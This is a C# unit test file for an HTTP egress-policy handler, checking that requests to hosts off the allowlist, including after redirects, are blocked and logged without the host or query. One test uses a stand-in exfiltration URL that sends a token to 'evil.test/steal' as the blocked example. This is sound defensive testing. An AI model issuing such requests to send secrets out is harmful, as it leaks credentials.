using System.Net;
using System.Net.Http;
using Kars.Policy.Egress;
using Kars.Policy.Http;
using Kars.Policy.Tests.Shared.Egress;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Logging.Testing;

namespace Kars.Policy.Tests.Http;

public sealed class EgressPolicyHandlerTests
{
    private sealed class Recording : HttpMessageHandler
    {
        public List<HttpRequestMessage> Sent { get; } = [];

        public Func<HttpRequestMessage, HttpResponseMessage> Respond { get; set; } = r => new HttpResponseMessage(HttpStatusCode.OK) { RequestMessage = r };

        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken) =>
            Task.FromResult(Send(request, cancellationToken));

        protected override HttpResponseMessage Send(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            Sent.Add(request);
            return Respond(request);
        }
    }

    [Fact]
    public async Task SendAsync_DeniedHost_ThrowsBeforeSending()
    {
        var inner = new Recording();
        using var client = new HttpClient(new EgressPolicyHandler(new FakeEgressPolicy("api.test")) { InnerHandler = inner });

        var act = () => client.GetAsync(new Uri("https://evil.test/steal?token=abc"));

        var denial = (await act.Should().ThrowExactlyAsync<EgressDeniedException>()).Which;
        denial.Checkpoint.Should().Be(EgressCheckpoint.Request);
        denial.Decision.Reason.Should().Be(EgressReason.NotAllowlisted);
        denial.Message.Should().NotContain("evil.test").And.NotContain("token");
        inner.Sent.Should().BeEmpty();
    }

    [Fact]
    public void Send_Sync_DeniedHost_Throws()
    {
        var inner = new Recording();
        using var invoker = new HttpMessageInvoker(new EgressPolicyHandler(new FakeEgressPolicy("api.test")) { InnerHandler = inner });
        using var request = new HttpRequestMessage(HttpMethod.Get, "https://evil.test/");

        var act = () => invoker.Send(request, CancellationToken.None);

        act.Should().ThrowExactly<EgressDeniedException>();
        inner.Sent.Should().BeEmpty();
    }

    [Fact]
    public async Task SendAsync_AllowedHost_Sent()
    {
        var inner = new Recording();
        using var client = new HttpClient(new EgressPolicyHandler(new FakeEgressPolicy("api.test")) { InnerHandler = inner });

        using var response = await client.GetAsync(new Uri("https://api.test/"));

        response.StatusCode.Should().Be(HttpStatusCode.OK);
        inner.Sent.Should().ContainSingle();
    }

    [Fact]
    public async Task SendAsync_FinalUriAfterRedirectDenied_ResponseRefused()
    {
        // A primary handler that followed a redirect itself (as one without the connect callback would).
        var inner = new Recording
        {
            Respond = r =>
            {
                r.RequestUri = new Uri("https://evil.test/landed");
                return new HttpResponseMessage(HttpStatusCode.OK) { RequestMessage = r };
            },
        };
        using var client = new HttpClient(new EgressPolicyHandler(new FakeEgressPolicy("api.test")) { InnerHandler = inner });

        var act = () => client.GetAsync(new Uri("https://api.test/"));

        (await act.Should().ThrowExactlyAsync<EgressDeniedException>()).Which.Checkpoint.Should().Be(EgressCheckpoint.Redirect);
    }

    [Theory]
    [InlineData(3, HttpVersionPolicy.RequestVersionExact)]
    [InlineData(2, HttpVersionPolicy.RequestVersionOrHigher)]
    public async Task SendAsync_RequestThatCouldUseHttp3_KeptOnHttp2OrLower(int major, HttpVersionPolicy policy)
    {
        var inner = new Recording();
        using var client = new HttpClient(new EgressPolicyHandler(new FakeEgressPolicy("api.test")) { InnerHandler = inner });
        using var request = new HttpRequestMessage(HttpMethod.Get, "https://api.test/") { Version = new Version(major, 0), VersionPolicy = policy };

        using var response = await client.SendAsync(request);

        inner.Sent[0].Version.Should().Be(HttpVersion.Version20);
        inner.Sent[0].VersionPolicy.Should().Be(HttpVersionPolicy.RequestVersionOrLower);
    }

    [Fact]
    public async Task SendAsync_Denied_LogsEventWithoutHostOrQuery()
    {
        var collector = new FakeLogCollector();
        using var factory = LoggerFactory.Create(b => b.AddProvider(new FakeLoggerProvider(collector)));
        var handler = new EgressPolicyHandler(new FakeEgressPolicy(), loggerFactory: factory) { InnerHandler = new Recording() };
        using var client = new HttpClient(handler);

        var act = () => client.GetAsync(new Uri("https://secret-host.test/path?api_key=xyz"));
        await act.Should().ThrowAsync<EgressDeniedException>();

        var record = collector.GetSnapshot().Should().ContainSingle().Subject;
        record.Id.Id.Should().Be(5000);
        record.Id.Name.Should().Be("EgressDenied");
        record.Message.Should().NotContain("secret-host").And.NotContain("api_key").And.NotContain("xyz");
    }
}
